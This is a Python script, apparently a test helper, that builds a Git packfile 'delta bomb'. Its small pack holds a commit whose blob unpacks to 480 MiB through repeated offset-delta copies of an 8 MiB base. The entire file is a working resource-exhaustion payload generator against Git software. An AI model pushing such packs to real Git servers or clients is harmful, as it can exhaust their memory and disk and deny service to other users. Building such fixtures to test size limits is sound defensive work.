"""Writes a pack to standard output, whose commit has a small file and one that unpacks to 480 MiB. Prints the commit's id to
standard error.

usage: delta_bomb.py
"""

import hashlib
import sys
import zlib

BASE = bytes(8 << 20)
COPIES = 60
COMMIT, TREE, BLOB, OFS_DELTA = 1, 2, 3, 6


def varint(number):
    out = bytearray()
    while True:
        byte, number = number & 127, number >> 7
        out.append(byte | (128 if number else 0))
        if not number:
            return bytes(out)


def head(kind, size):
    first, rest = (kind << 4) | (size & 15), size >> 4
    return bytes([first | (128 if rest else 0)]) + (varint(rest) if rest else b"")


def distance(number):
    out = [number & 127]
    number >>= 7
    while number:
        number -= 1
        out.insert(0, 128 | (number & 127))
        number >>= 7
    return bytes(out)


def digest(kind, size, pieces):
    sha = hashlib.sha1(b"%s %d\0" % (kind, size))
    for piece in pieces:
        sha.update(piece)
    return sha


base = digest(b"blob", len(BASE), [BASE])
bomb = digest(b"blob", len(BASE) * COPIES, [BASE] * COPIES)
tree = b"100644 base\0" + base.digest() + b"100644 bomb\0" + bomb.digest()
tree_id = digest(b"tree", len(tree), [tree]).hexdigest()
who = "Ada <ada@example.com> 1767225600 +0000"
commit = f"tree {tree_id}\nauthor {who}\ncommitter {who}\n\nfirst\n".encode()

# Each copies the whole of the base: no offset, and the third byte of a length of 8 MiB.
delta = varint(len(BASE)) + varint(len(BASE) * COPIES) + bytes([0x80 | 0x40, 0x80]) * COPIES
pack = b"PACK" + (2).to_bytes(4, "big") + (4).to_bytes(4, "big")
at = len(pack)
pack += head(BLOB, len(BASE)) + zlib.compress(BASE)
pack += head(OFS_DELTA, len(delta)) + distance(len(pack) - at) + zlib.compress(delta)
pack += head(TREE, len(tree)) + zlib.compress(tree)
pack += head(COMMIT, len(commit)) + zlib.compress(commit)
sys.stdout.buffer.write(pack + hashlib.sha1(pack).digest())
print(digest(b"commit", len(commit), [commit]).hexdigest(), file=sys.stderr)
